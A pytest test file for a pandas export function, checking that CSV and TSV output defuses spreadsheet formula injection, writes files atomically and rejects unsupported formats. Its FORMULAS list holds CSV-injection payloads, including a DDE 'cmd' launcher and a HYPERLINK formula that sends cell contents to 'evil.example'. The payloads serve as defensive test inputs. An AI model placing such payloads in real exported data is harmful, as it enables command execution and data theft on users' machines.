"""Exported files: whole or not there, and nothing in them is computed by a spreadsheet."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import claude_batch_pandas as cbp
from claude_batch_pandas.exceptions import InputError, LedgerError
from claude_batch_pandas.exports import FORMULA, _encode

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
FORMULAS = [
    *(f"{sign}cmd|' /C calc'!A0" for sign in SIGNS),
    *(
        f"{blank}=1+1"
        for blank in (" ", "  ", "\n", "\u00a0", "\u3000", "\ufeff", "\u200b", "\x00")
    ),
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "-5",
    "=",
]
HARMLESS = ["a=b", "1+1", "'=1", "", "x", "mail@example.com", "é", '"=1"', "a\tb", "a,b;=1\n=2\r=3"]


def cells(path: Path) -> list[list[str]]:
    """Return the cells of a file as a spreadsheet would part them."""
    separator = "\t" if path.suffix == ".tsv" else ","
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, delimiter=separator))


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".CSV"])
@pytest.mark.parametrize("words", FORMULAS)
def test_no_text_is_a_formula(words: str, suffix: str, tmp_path: Path) -> None:
    """Cells, column names, index labels and their names get an apostrophe; numbers stay numbers."""
    index = pd.MultiIndex.from_tuples([(words, 1), ("b", -2)], names=[words, None])
    df = pd.DataFrame({words: [words, "x"], "n": [-1, -2.5]}, index=index)
    found = cells(cbp.export(df, tmp_path / f"out{suffix}"))

    assert found[0] == [f"'{words}", "", f"'{words}", "n"]
    assert found[1] == [f"'{words}", "1", f"'{words}", "-1.0"]
    assert found[2] == ["b", "-2", "x", "-2.5"]
    assert df.columns[0] == words


@pytest.mark.parametrize("words", FORMULAS)
def test_formulas_can_be_kept(words: str, tmp_path: Path) -> None:
    """Who asks for them gets them."""
    df = pd.DataFrame({words: [words]})

    assert cells(cbp.export(df, tmp_path / "out.csv", formulas=True)) == [[words], [words]]


@pytest.mark.parametrize("words", HARMLESS)
def test_other_text_stays(words: str, tmp_path: Path) -> None:
    """Signs elsewhere than at the beginning are text."""
    df = pd.DataFrame({"a": [words, "x"]})

    assert cells(cbp.export(df, tmp_path / "out.csv")) == [["a"], [words], ["x"]]


def test_text_is_quoted(tmp_path: Path) -> None:
    """A program that parts cells at semicolons, or ends lines at a CR, finds no formula either."""
    df = pd.DataFrame({"a;=1": ["x;=cmd", "y\r=cmd"], "n": [1, None]})
    text = cbp.export(df, tmp_path / "out.csv").read_bytes()

    assert text == b'"a;=1","n"\n"x;=cmd",1.0\n"y\r=cmd",""\n'


@pytest.mark.parametrize(
    "dtype", ["object", "str", "string", "category", "string[pyarrow]"], ids=str
)
def test_every_kind_of_text_is_looked_at(dtype: Any, tmp_path: Path) -> None:
    """Missing values stay missing."""
    df = pd.DataFrame({"a": pd.Series(["=1", None, "x"], dtype=dtype), "b": [1, 2, 3]})

    assert cells(cbp.export(df, tmp_path / "out.csv"))[1:] == [["'=1", "1"], ["", "2"], ["x", "3"]]


def test_objects_and_labels_of_all_kinds(tmp_path: Path) -> None:
    """Columns that stand twice, numbers as names, categories and times as labels."""
    columns = pd.Index(["=a", "=a", -3, ("=b", 1)], tupleize_cols=False)
    df = pd.DataFrame([["=1", -1, True, "@x"]], columns=columns, index=pd.CategoricalIndex(["+i"]))
    found = cells(cbp.export(df, tmp_path / "out.csv"))
    days = pd.DataFrame({"a": [1]}, index=pd.DatetimeIndex(["2026-11-20"], name="=day"))

    assert found[0][:4] == ["", "'=a", "'=a", "-3"]
    assert found[1] == ["'+i", "'=1", "-1", "True", "'@x"]
    assert cells(cbp.export(days, tmp_path / "d.csv")) == [["'=day", "a"], ["2026-11-20", "1"]]
    assert cells(cbp.export(pd.Series(["=1"], name="=s"), tmp_path / "s.tsv")) == [["'=s"], ["'=1"]]
    assert cbp.export(pd.DataFrame(), tmp_path / "none.csv").exists()
    empty = pd.DataFrame({"=a": []}, index=pd.MultiIndex.from_arrays([[], []], names=["=x", "y"]))
    assert cells(cbp.export(empty, tmp_path / "e.csv")) == [["'=x", "y", "'=a"]]


def test_labels_may_stand_twice(queries: pd.DataFrame, tmp_path: Path) -> None:
    """Rows and columns are taken by position."""
    found = cells(cbp.export(queries, tmp_path / "out.csv"))

    assert [row[0] for row in found] == ["", "7", "7", "8", "9"]
    assert [row[1] for row in found[1:]] == queries["text"].tolist()


def test_parquet_is_as_it_is(queries: pd.DataFrame, tmp_path: Path) -> None:
    """Text, types and index come back."""
    df = queries.assign(more="=1+1", when=pd.Timestamp("2026-11-20").as_unit("us"), none=np.nan)
    found = pd.read_parquet(cbp.export(df, tmp_path / "out.parquet"))

    pd.testing.assert_frame_equal(found, df)


@pytest.mark.parametrize("name", ["out.xlsx", "out", "out.csv.gz", ".csv", "out.pkl", "out.json"])
def test_other_formats_are_refused_by_name(name: str, tmp_path: Path) -> None:
    """The error names what there is."""
    with pytest.raises(InputError, match=r"cannot write .*Use one of: \.csv, \.tsv, \.parquet"):
        cbp.export(pd.DataFrame({"a": [1]}), tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_what_cannot_be_written_is_told(tmp_path: Path) -> None:
    """Nothing is left behind."""
    df = pd.DataFrame({"a": [1]})
    with pytest.raises(InputError, match="a DataFrame or a Series, not a list"):
        cbp.export([1], tmp_path / "out.csv")
    with pytest.raises(InputError, match=r"path must name a file, such as 'out\.csv', not 5"):
        cbp.export(df, 5)  # type: ignore[arg-type]
    with pytest.raises(InputError, match="formulas must be True or False, not 'no'"):
        cbp.export(df, tmp_path / "out.csv", formulas="no")  # type: ignore[arg-type]
    with pytest.raises(InputError, match=r"cannot be written as \.parquet"):
        cbp.export(pd.DataFrame({"a": [1, "x"]}), tmp_path / "out.parquet")
    with pytest.raises(InputError, match=r"cannot be written as \.csv: .*surrogates not allowed"):
        cbp.export(pd.DataFrame({"a": ["\ud800"]}, dtype=object), tmp_path / "out.csv")
    with pytest.raises(LedgerError, match=r"Could not write .*out\.csv: No such file"):
        cbp.export(df, tmp_path / "nowhere" / "out.csv")
    assert list(tmp_path.iterdir()) == []


def test_a_file_is_replaced_whole_or_not_at_all(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Until the new file is on the disk, the old one is there."""
    path = cbp.export(pd.DataFrame({"a": ["old"]}), tmp_path / "out.csv")

    def fail(_: int) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as full:
        full.setattr(os, "fsync", fail)
        with pytest.raises(LedgerError, match=r"Could not keep .*No space left"):
            cbp.export(pd.DataFrame({"a": ["new"]}), path)
    kept = path.read_text()
    cbp.export(pd.DataFrame({"a": ["new"]}), str(path))

    assert "old" in kept
    assert "new" in path.read_text()
    assert [file.name for file in tmp_path.iterdir()] == ["out.csv"]
    assert os.name == "nt" or path.stat().st_mode & 0o077 == 0


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_cell_begins_like_a_formula(words: list[str]) -> None:
    """Of any text; and what is written is what was there, but for the apostrophe."""
    try:
        "".join(words).encode()
    except UnicodeEncodeError:
        return
    data = _encode(pd.DataFrame({"a": words}, dtype=object), ".csv", formulas=False)
    found = [row[0] for row in csv.reader(io.StringIO(data.decode(), newline=""))][1:]

    assert not any(FORMULA.match(cell) for cell in found)
    assert [a if a == b else a[1:] for a, b in zip(found, words, strict=True)] == words
